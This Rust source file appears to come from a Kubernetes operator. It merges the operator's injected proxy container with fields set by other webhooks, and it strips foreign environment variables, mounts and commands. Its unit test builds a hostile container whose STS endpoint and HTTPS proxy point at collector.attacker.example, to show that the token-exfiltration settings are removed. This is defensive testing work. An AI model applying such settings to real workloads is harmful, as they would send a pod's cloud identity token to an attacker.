//! Reinvocation (`reinvocationPolicy: IfNeeded`), or a pod that brings a
//! container of the proxy's name itself: the proxy container is already in
//! the pod. The operator's own fields are set again and other fields are
//! kept (a mesh's probe rewrite, a resource policy's annotation-driven
//! field), so two webhooks do not undo each other, with one exception: the
//! container's environment and mounts are the operator's alone. The proxy
//! holds the pod's cloud identity, and its AWS SDK and TLS stack read their
//! endpoints, CA bundles and proxies from the environment: a foreign
//! `AWS_ENDPOINT_URL_STS`, `HTTPS_PROXY`, `SSL_CERT_FILE` or a mounted
//! config file would send its web-identity token to whoever set it (found
//! by the independent attack on the operator).

use k8s_openapi::api::core::v1::Container;
use serde_json::Value;

/// Fields the operator owns even though it never sets them: each could
/// change what the proxy runs or which settings it reads (`envFrom` could
/// carry proxy settings), so another webhook's value is removed.
const OWNED_UNSET: &[&str] = &["command", "envFrom"];

/// Lists merged item by item (the operator's items replace those with the
/// same key, other items stay where they are).
const KEYED_LISTS: &[(&str, &str)] = &[("env", "name"), ("volumeMounts", "name"), ("ports", "containerPort")];

/// Lists the operator owns outright: another webhook's items are dropped.
const OWNED_LISTS: &[&str] = &["env", "volumeMounts"];

fn merge_list(existing: Option<Value>, ours: Vec<Value>, key: &str, drop: impl Fn(&Value) -> bool) -> Value {
    let mut out: Vec<Value> = match existing {
        Some(Value::Array(items)) => items.into_iter().filter(|v| !drop(v)).collect(),
        _ => Vec::new(),
    };
    for item in ours {
        match out.iter_mut().find(|v| v.get(key) == item.get(key)) {
            Some(slot) => *slot = item,
            None => out.push(item),
        }
    }
    Value::Array(out)
}

/// `existing` with the fields of `ours` (the container the operator would
/// inject now) set on it.
pub fn merge_own(existing: &Container, ours: Container) -> Container {
    let (Ok(Value::Object(mut merged)), Ok(Value::Object(ours_json))) =
        (serde_json::to_value(existing), serde_json::to_value(&ours))
    else {
        return ours;
    };
    for field in OWNED_UNSET {
        if !ours_json.contains_key(*field) {
            merged.remove(*field);
        }
    }
    let ours_fields: Vec<String> = ours_json.keys().cloned().collect();
    for (field, value) in ours_json {
        match KEYED_LISTS.iter().find(|(f, _)| *f == field) {
            Some((_, key)) => {
                let items = match value {
                    Value::Array(items) => items,
                    _ => Vec::new(),
                };
                let existing = merged.remove(&field);
                let list = if OWNED_LISTS.contains(&field.as_str()) {
                    merge_list(existing, items, key, |_| true)
                } else {
                    merge_list(existing, items, key, |_| false)
                };
                merged.insert(field, list);
            }
            None => {
                merged.insert(field, value);
            }
        }
    }
    // Lists a foreign webhook set when we set none.
    for field in OWNED_LISTS {
        if !ours_fields.contains(&field.to_string()) {
            merged.remove(*field);
        }
    }
    serde_json::from_value(Value::Object(merged)).unwrap_or(ours)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn container(v: Value) -> Container {
        serde_json::from_value(v).unwrap()
    }

    #[test]
    fn foreign_fields_survive_and_ours_are_set_again() {
        let ours = container(json!({
            "name": "cloudtaser-s3proxy", "image": "proxy:2", "args": ["serve"],
            "env": [{"name": "CLOUDTASER_S3PROXY_LISTEN", "value": "127.0.0.1:8190"}],
            "readinessProbe": {"httpGet": {"path": "/readyz", "port": 8191}}
        }));
        let existing = container(json!({
            "name": "cloudtaser-s3proxy", "image": "proxy:1", "args": ["serve"], "command": ["/bin/sh"],
            "envFrom": [{"configMapRef": {"name": "x"}}],
            "env": [
                {"name": "DD_AGENT_HOST", "value": "node"},
                {"name": "CLOUDTASER_S3PROXY_LISTEN", "value": "0.0.0.0:8190"},
                {"name": "CLOUDTASER_S3PROXY_PLAINTEXT_READS", "value": "*"},
                {"name": "AWS_ENDPOINT_URL_STS", "value": "https://collector.attacker.example"},
                {"name": "HTTPS_PROXY", "value": "http://collector.attacker.example:3128"}
            ],
            "volumeMounts": [{"name": "scratch", "mountPath": "/etc/ssl/certs"}],
            "terminationMessagePolicy": "FallbackToLogsOnError",
            "readinessProbe": {"httpGet": {"path": "/app-health/cloudtaser-s3proxy/readyz", "port": 15020}}
        }));
        let merged = serde_json::to_value(merge_own(&existing, ours.clone())).unwrap();
        let want = json!({
            "name": "cloudtaser-s3proxy", "image": "proxy:2", "args": ["serve"],
            "env": [
                {"name": "CLOUDTASER_S3PROXY_LISTEN", "value": "127.0.0.1:8190"}
            ],
            "terminationMessagePolicy": "FallbackToLogsOnError",
            "readinessProbe": {"httpGet": {"path": "/readyz", "port": 8191}}
        });
        assert_eq!(merged, want);
        // Idempotent.
        let again = merge_own(&serde_json::from_value(merged.clone()).unwrap(), ours);
        assert_eq!(serde_json::to_value(again).unwrap(), merged);
    }
}
